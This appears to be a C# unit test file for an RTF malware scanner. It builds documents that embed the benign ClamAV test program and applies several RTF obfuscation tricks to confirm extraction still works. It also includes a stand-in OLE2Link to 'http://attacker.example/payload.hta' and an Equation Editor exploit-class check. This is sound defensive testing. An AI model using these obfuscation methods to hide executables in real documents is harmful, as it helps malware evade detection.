using System.Diagnostics;
using System.Text;
using Crible.Model;
using Crible.Scanners.Office.Rtf;

namespace Crible.Tests.Scanners.Office;

public sealed class RtfScannerTests
{
    [Fact]
    public async Task The_ClamAV_test_program_packaged_in_an_RTF_is_found_with_its_paths()
    {
        var report = await TestEngine.Default.AnalyseFileAsync(TestPaths.ClamAvTestFile("clam.exe.rtf"));

        Assert.Equal(Verdict.Malicious, report.Verdict);
        Assert.Equal("clam.exe.rtf/clam.exe", OfficeTestFiles.ClamExeNode(report).Path);
        var package = Assert.Single(report.Nodes[0].Findings, f => f.Id == "ole-package");
        Assert.Equal(@"C:\DOCUME~1\edwin\Desktop\clam.exe", package.Meta["original_path"]);
    }

    public static TheoryData<string> Obfuscations() => new()
    {
        "plain",
        "whitespace",
        "control-words",
        "nested-groups",
        "nested-destination",
        "bin",
        "odd-digit-before-symbol",
        "odd-digit-at-end",
        "all",
    };

    [Theory]
    [MemberData(nameof(Obfuscations))]
    public async Task Obfuscated_object_data_still_yields_the_packaged_program(string obfuscation)
    {
        var hex = Convert.ToHexString(PackageObject());
        var rtf = $@"{{\rtf1\ansi{{\object\objemb\objw855\objh765{{\*\objclass Package}}{{\*\objdata {Obfuscate(hex, obfuscation)}}}}}}}";

        var report = await TestEngine.Default.AnalyseAsync(Encoding.Latin1.GetBytes(rtf), "obfuscated.rtf");

        Assert.Equal(Verdict.Malicious, report.Verdict);
        Assert.Equal("obfuscated.rtf/clam.exe", OfficeTestFiles.ClamExeNode(report).Path);
    }

    [Fact]
    public async Task A_linked_OLE2Link_object_is_reported_with_its_target()
    {
        var link = Ole1(1, "OLE2Link", "http://attacker.example/payload.hta", []);
        var rtf = $@"{{\rtf1{{\object\objautlink{{\*\objdata {Convert.ToHexString(link)}}}}}}}";

        var report = await TestEngine.Default.AnalyseAsync(Encoding.ASCII.GetBytes(rtf), "link.rtf");

        var finding = Assert.Single(report.Nodes[0].Findings, f => f.Id == "ole-link");
        Assert.Equal(Severity.Suspicious, finding.Severity);
        Assert.Equal("http://attacker.example/payload.hta", finding.Evidence);
        Assert.Single(report.Nodes);
    }

    [Fact]
    public async Task An_Equation_Editor_object_is_emitted_by_its_class_and_flagged()
    {
        var equation = Ole1(2, "Equation.3", string.Empty, OfficeTestFiles.Pattern(300, 20));
        var rtf = $@"{{\rtf1{{\object\objemb{{\*\objdata {Convert.ToHexString(equation)}}}}}}}";

        var report = await TestEngine.Default.AnalyseAsync(Encoding.ASCII.GetBytes(rtf), "equation.rtf");

        Assert.Equal(300, Assert.Single(report.Nodes, n => n.Name == "Equation.3").Size);
        Assert.Contains(report.Nodes[0].Findings, f => f.Id == "ole-exploited-class" && f.Severity == Severity.Suspicious);
    }

    [Fact]
    public async Task Object_data_without_an_OLE1_header_is_emitted_as_it_is()
    {
        var rtf = $@"{{\rtf1{{\object{{\*\objdata {Convert.ToHexString(OfficeTestFiles.ClamExe)}}}}}}}";

        var report = await TestEngine.Default.AnalyseAsync(Encoding.ASCII.GetBytes(rtf), "raw.rtf");

        Assert.Equal("raw.rtf/objdata-0", OfficeTestFiles.ClamExeNode(report).Path);
    }

    [Fact]
    public void Deep_nesting_and_endless_destinations_stay_bounded()
    {
        var rtf = new StringBuilder(@"{\rtf1");
        for (var i = 0; i < 200_000; i++)
        {
            rtf.Append(@"{\*\objdata 41");
        }

        var problems = new List<string>();
        var clock = Stopwatch.StartNew();

        var objects = RtfObjectReader.Read(Encoding.ASCII.GetBytes(rtf.ToString()), problems);

        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(5));
        Assert.Equal(RtfObjectReader.MaxObjects, objects.Count);
        Assert.Contains("destinations nested too deep", problems);
    }

    private static byte[] PackageObject() =>
        Ole1(2, "Package", string.Empty, OfficeTestFiles.PackageNativeData("clam.exe", @"C:\clam.exe", @"C:\Temp\clam.exe", OfficeTestFiles.ClamExe));

    private static byte[] Ole1(uint format, string className, string topic, byte[] native)
    {
        using var buffer = new MemoryStream();
        using var writer = new BinaryWriter(buffer);
        writer.Write(0x00000501u);
        writer.Write(format);
        foreach (var text in new[] { className, topic, string.Empty })
        {
            writer.Write((uint)(text.Length + 1));
            writer.Write(Encoding.Latin1.GetBytes(text + "\0"));
        }

        if (format == 2)
        {
            writer.Write((uint)native.Length);
            writer.Write(native);
        }

        writer.Flush();
        return buffer.ToArray();
    }

    private static string Obfuscate(string hex, string how) => how switch
    {
        "plain" => hex,
        "whitespace" => Every(hex, 7, i => (i % 3) switch { 0 => "\r\n", 1 => " \t", _ => "\n" }),
        "control-words" => Every(hex, 10, i => i % 2 == 0 ? @"\par " : @"\fs24\insrsid123 "),
        "nested-groups" => Every(hex, 12, _ => "{") + new string('}', (hex.Length - 1) / 12),
        "nested-destination" => Every(hex, 40, _ => @"{\*\datastore 0102030405}"),
        "bin" => Binary(hex),
        "odd-digit-before-symbol" => Every(hex, 16, _ => @"7\'ff"),
        "odd-digit-at-end" => hex + "A",
        _ => Mixed(hex),
    };

    /// <summary>Every trick at once, inserted between whole bytes so none of them changes the data.</summary>
    private static string Mixed(string hex)
    {
        var builder = new StringBuilder();
        for (var i = 0; i < hex.Length; i += 2)
        {
            builder.Append(hex, i, 2);
            var index = i / 2;
            builder.Append(index % 5 == 0 ? "\r\n " : string.Empty)
                .Append(index % 7 == 0 ? @"\par\fs24 " : string.Empty)
                .Append(index % 11 == 0 ? @"{\*\datastore 01020304}" : string.Empty)
                .Append(index % 13 == 0 ? @"7\'ff" : string.Empty)
                .Append(index % 17 == 0 ? "{}" : string.Empty);
        }

        return builder.Append('A').ToString();
    }

    /// <summary>Inserts <paramref name="insert"/> after every <paramref name="step"/> characters (an even step keeps
    /// whole bytes apart where it matters).</summary>
    private static string Every(string hex, int step, Func<int, string> insert)
    {
        var builder = new StringBuilder();
        for (var i = 0; i < hex.Length; i += step)
        {
            builder.Append(hex, i, Math.Min(step, hex.Length - i));
            if (i + step < hex.Length)
            {
                builder.Append(insert(i / step));
            }
        }

        return builder.ToString();
    }

    /// <summary>Bytes 100 to 119 written raw after \bin20 instead of as hex.</summary>
    private static string Binary(string hex)
    {
        var raw = Convert.FromHexString(hex.AsSpan(200, 40));
        return hex[..200] + @"\bin20 " + Encoding.Latin1.GetString(raw) + hex[240..];
    }
}
